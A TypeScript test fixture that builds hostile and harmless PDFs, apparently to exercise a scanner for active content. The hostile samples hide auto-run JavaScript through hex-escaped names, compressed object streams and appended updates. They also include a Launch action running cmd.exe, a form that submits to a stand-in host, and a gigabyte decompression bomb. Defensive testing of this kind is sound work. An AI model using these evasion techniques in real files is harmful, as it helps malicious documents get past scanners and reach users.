import { deflateRawSync, deflateSync } from 'node:zlib';

/** Objects of a PDF by number, in file order; a stream has a dictionary and bytes. */
type Written = string | { dictionary: string; bytes: Buffer };

const HEAD = Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1');

const bytesOf = (number: number, written: Written): Buffer =>
  typeof written === 'string'
    ? Buffer.from(`${number} 0 obj\n${written}\nendobj\n`, 'latin1')
    : Buffer.concat([
        Buffer.from(`${number} 0 obj\n<<${written.dictionary}/Length ${written.bytes.length}>>\nstream\n`, 'latin1'),
        written.bytes,
        Buffer.from('\nendstream\nendobj\n', 'latin1'),
      ]);

/** Builds a PDF with a cross-reference table for all objects. */
export const pdfOf = (objects: Record<number, Written>, trailer = ''): Buffer => {
  const parts: Buffer[] = [HEAD];
  const places: string[] = [];
  let at = HEAD.length;
  for (const [number, written] of Object.entries(objects)) {
    const part = bytesOf(Number(number), written);
    places.push(`${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`);
    parts.push(part);
    at += part.length;
  }
  const end = `xref\n${places.join('')}trailer\n<</Size 100/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(end, 'latin1')]);
};

const PAGES = { 2: '<</Type/Pages/Kids[3 0 R]/Count 1>>', 3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>' };

/** A PDF of one page, with the given catalog entries. */
export const pdfWith = (catalog: string, more: Record<number, Written> = {}): Buffer =>
  pdfOf({ 1: `<</Type/Catalog/Pages 2 0 R${catalog}>>`, ...PAGES, ...more });

/** Compresses objects into an object stream (PDF 1.5): numbers and offsets first, then the objects. */
export const packed = (objects: Record<number, string>, { key = 'First', filter = '/Filter/FlateDecode' } = {}) => {
  const bodies = Object.values(objects);
  const places = Object.keys(objects).map(
    (number, index) => `${number} ${bodies.slice(0, index).join(' ').length + (index && 1)}`,
  );
  const head = `${places.join(' ')} `;
  const dictionary = `/Type/ObjStm/N ${bodies.length}/${key} ${head.length}${filter}`;
  return { dictionary, bytes: deflateSync(Buffer.from(head + bodies.join(' '), 'latin1')) };
};

const ACTION = '<</S/JavaScript/JS(app.alert(1))>>';
const hex = (text: string) => [...text].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('');

/** PDFs with scripts, escaped and compressed in the ways that the format allows. */
export const hostilePdfs: [what: string, content: Buffer][] = [
  ['one letter by its number', pdfWith('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['every letter by its number', pdfWith(`/OpenAction<</S/${hex('JavaScript')}/${hex('JS')}(app.alert(1))>>`)],
  ['a letter by its number in capitals', pdfWith('/OpenAction<</S/Java#53cript/JS 9 0 R>>')],
  ['the key of a script and nothing else', pdfWith('/OpenAction << /JS (app.alert(1)) /X 1 >>')],
  ['a command', pdfWith('/OpenAction<</S/L#61unch/F(cmd.exe)>>')],
  ['a script in packed objects', pdfWith('/OpenAction 9 0 R', { 8: packed({ 9: ACTION }) })],
  [
    'a script in packed objects among others',
    pdfWith('/OpenAction 9 0 R', { 8: packed({ 7: '<</A 1>>', 9: ACTION }) }),
  ],
  [
    'a script in packed objects, spelled by numbers there',
    pdfWith('/OpenAction 9 0 R', { 8: packed({ 9: '<</S/#4aavaScript/JS(1)>>' }) }),
  ],
  [
    'packed objects whose dictionary spells its keys by numbers',
    pdfWith('', { 8: packed({ 9: ACTION }, { key: 'F#69rst' }) }),
  ],
  [
    'packed objects that do not say that they are',
    pdfWith('', { 8: { ...packed({ 9: ACTION }), dictionary: '/Filter/FlateDecode' } }),
  ],
  [
    'packed objects behind a dictionary that is as long as a book',
    pdfWith('', { 8: { ...packed({ 9: ACTION }), dictionary: `/First 4/N 1/X(${'1 0 obj '.repeat(20_000)})` } }),
  ],
  [
    'packed objects packed twice over',
    pdfWith('', {
      8: {
        dictionary: '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
        bytes: Buffer.from(packed({ 9: ACTION }).bytes.toString('hex')),
      },
    }),
  ],
  [
    'packed objects without the mark of their packing',
    pdfWith('', {
      8: {
        dictionary: '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
        bytes: deflateRawSync(Buffer.from(`9 0 ${ACTION}`)),
      },
    }),
  ],
  [
    'packed objects that come to a gigabyte',
    pdfWith('', { 8: { dictionary: packed({}).dictionary, bytes: deflateSync(Buffer.alloc(1024 ** 3, '9 0 ')) } }),
  ],
  [
    'a script that an update takes the place of, and a mended table finds again',
    Buffer.concat([pdfWith('/OpenAction 9 0 R', { 9: ACTION }), Buffer.from('9 0 obj\n<</S/GoTo>>\nendobj\n%%EOF\n')]),
  ],
  [
    'a script that an update adds',
    Buffer.concat([
      pdfWith(''),
      Buffer.from(
        '1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S /JavaScript /JS <6170702e>>>>>\nendobj\n%%EOF\n',
      ),
    ]),
  ],
  ['packed objects in a locked file', pdfOf({ 1: '<<>>', 8: packed({ 9: 'locked' }) }, '/Encrypt 7 0 R')],
  ['a file in the file', pdfWith('/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 9 0 R>>>>]>>>>')],
  ['a file in the file, in packed objects', pdfWith('', { 8: packed({ 9: '<</Type/EmbeddedFile>>' }) })],
  ['a form that is another program', pdfWith('/AcroForm<</XFA 9 0 R/Fields[]>>')],
  ['a form that is sent away', pdfWith('/AcroForm<</Fields[<</A<</S/SubmitForm/F(https://mal.example)>>>>]>>')],
  ['a script in an address that ends early', pdfWith('/A(http://x)/S/JavaScript/JS(1)')],
  ['a player', pdfWith('/OpenAction<</S/Rendition/OP 0>>')],
];

/** Hand-written PDFs with the structure of bills and drawings. */
export const harmlessPdfs: [what: string, content: Buffer][] = [
  [
    'a link to a page about scripts',
    pdfWith('', { 9: '<</S/URI/URI(https://empresa.example/JavaScript/JS/curso?a=1)>>' }),
  ],
  ['a page that opens at its top', pdfWith('/OpenAction[3 0 R/XYZ null null 0]')],
  ['packed objects', pdfWith('', { 8: packed({ 9: '<</Type/Font/Subtype/Type1>>', 10: '[1 2 3]' }) })],
  [
    'a drawing of a plan',
    pdfWith('', {
      9: {
        dictionary: '/Filter/FlateDecode',
        bytes: deflateSync(Buffer.from('1 0 0 1 0 0 cm 0 0 m 10 10 l S '.repeat(300_000))),
      },
    }),
  ],
  ['a locked bill whose objects are in the open', pdfOf({ 1: '<</Type/Catalog>>' }, '/Encrypt 7 0 R')],
];
